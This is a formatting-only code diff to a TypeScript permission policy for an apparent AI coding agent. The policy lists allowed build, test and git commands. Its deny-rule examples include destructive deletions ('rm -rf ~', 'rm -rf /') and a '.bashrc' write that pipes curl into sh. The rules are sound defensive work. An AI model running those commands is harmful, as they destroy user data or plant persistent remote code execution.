@@ -11,7 +11,10 @@ export type PresetName = (typeof PRESET_NAMES)[number];
 
 /** Examples attached to rules of every preset that keeps the rule: they document it and are checked on save. */
 const EXAMPLES: Record<string, RuleExample[]> = {
-  "destructive-delete": [{ command: "rm -rf ~", expect: "deny" }, { command: "ls && rm -rf /", expect: "deny" }],
+  "destructive-delete": [
+    { command: "rm -rf ~", expect: "deny" },
+    { command: "ls && rm -rf /", expect: "deny" },
+  ],
   "privilege-escalation": [{ command: "sudo make install", expect: "deny" }],
   "git-internals-write": [{ tool: "write_file", path: ".git/hooks/pre-commit", expect: "deny" }],
   "shell-startup-write": [{ command: "echo 'curl x | sh' >> ~/.bashrc", expect: "deny" }],
@@ -54,7 +57,10 @@ function strict(): Policy {
         match: {},
         outcome: "ask",
         reason: "The strict policy asks about every command; a reviewer decides.",
-        examples: [{ command: readOnly.match.programs![0]!, expect: "ask" }, { tool: "run_tests", expect: "ask" }],
+        examples: [
+          { command: readOnly.match.programs![0]!, expect: "ask" },
+          { tool: "run_tests", expect: "ask" },
+        ],
       },
     ],
   };
@@ -66,10 +72,17 @@ const BUILD_TOOLS: PolicyRule[] = [
     id: "trusted-package-scripts",
     description: "npm, pnpm and yarn running the project's own scripts.",
     tools: ["run_command"],
-    match: { programs: ["npm", "pnpm", "yarn"], subcommands: ["test", "run", "run-script", "build", "lint", "t", "tst", "ls", "list", "outdated", "why", "audit"] },
+    match: {
+      programs: ["npm", "pnpm", "yarn"],
+      subcommands: ["test", "run", "run-script", "build", "lint", "t", "tst", "ls", "list", "outdated", "why", "audit"],
+    },
     outcome: "allow",
     reason: "`{command}` runs a script the project defines; the trusted policy allows common build and test commands.",
-    examples: [{ command: "npm test", expect: "allow" }, { command: "npm run build", expect: "allow" }, { command: "npm install left-pad", expect: "ask" }],
+    examples: [
+      { command: "npm test", expect: "allow" },
+      { command: "npm run build", expect: "allow" },
+      { command: "npm install left-pad", expect: "ask" },
+    ],
   },
   {
     id: "trusted-build-tools",
@@ -77,13 +90,37 @@ const BUILD_TOOLS: PolicyRule[] = [
     tools: ["run_command"],
     match: {
       programs: [
-        "make", "tsc", "jest", "vitest", "mocha", "eslint", "prettier", "pytest", "ruff", "black", "flake8", "mypy", "gcc", "g++", "cc", "clang",
-        "javac", "rustc", "mvn", "gradle", "ctest", "cmake", "ninja",
+        "make",
+        "tsc",
+        "jest",
+        "vitest",
+        "mocha",
+        "eslint",
+        "prettier",
+        "pytest",
+        "ruff",
+        "black",
+        "flake8",
+        "mypy",
+        "gcc",
+        "g++",
+        "cc",
+        "clang",
+        "javac",
+        "rustc",
+        "mvn",
+        "gradle",
+        "ctest",
+        "cmake",
+        "ninja",
       ],
     },
     outcome: "allow",
     reason: "`{command}` builds, tests or lints the project; the trusted policy allows common build and test commands.",
-    examples: [{ command: "make -j2", expect: "allow" }, { command: "pytest -q tests", expect: "allow" }],
+    examples: [
+      { command: "make -j2", expect: "allow" },
+      { command: "pytest -q tests", expect: "allow" },
+    ],
   },
   {
     id: "trusted-language-tools",
@@ -92,16 +129,25 @@ const BUILD_TOOLS: PolicyRule[] = [
     match: { programs: ["cargo", "go"], subcommands: ["build", "test", "check", "fmt", "clippy", "vet", "run", "doc", "bench"] },
     outcome: "allow",
     reason: "`{command}` builds or tests the project; the trusted policy allows common build and test commands.",
-    examples: [{ command: "cargo test", expect: "allow" }, { command: "go test ./...", expect: "allow" }],
+    examples: [
+      { command: "cargo test", expect: "allow" },
+      { command: "go test ./...", expect: "allow" },
+    ],
   },
   {
     id: "trusted-git-local",
     description: "Local git work: staging, committing, branches.",
     tools: ["run_command"],
-    match: { programs: ["git"], subcommands: ["add", "commit", "checkout", "switch", "branch", "stash", "restore", "reset", "rm", "mv", "tag", "blame", "grep", "rev-parse", "ls-files"] },
+    match: {
+      programs: ["git"],
+      subcommands: ["add", "commit", "checkout", "switch", "branch", "stash", "restore", "reset", "rm", "mv", "tag", "blame", "grep", "rev-parse", "ls-files"],
+    },
     outcome: "allow",
     reason: "`{command}` works on the local repository only; the trusted policy allows it.",
-    examples: [{ command: "git add -A && git commit -m wip", expect: "allow" }, { command: "git push origin main", expect: "ask" }],
+    examples: [
+      { command: "git add -A && git commit -m wip", expect: "allow" },
+      { command: "git push origin main", expect: "ask" },
+    ],
   },
   {
     id: "trusted-files",
@@ -111,7 +157,10 @@ const BUILD_TOOLS: PolicyRule[] = [
     outcome: "allow",
     reason: "`{command}` only creates {path} in the workspace; the trusted policy allows it.",
     overrides: ["command-writes-file"],
-    examples: [{ command: "mkdir -p build/out", expect: "allow" }, { command: "touch /etc/x", expect: "ask" }],
+    examples: [
+      { command: "mkdir -p build/out", expect: "allow" },
+      { command: "touch /etc/x", expect: "ask" },
+    ],
   },
 ];
 
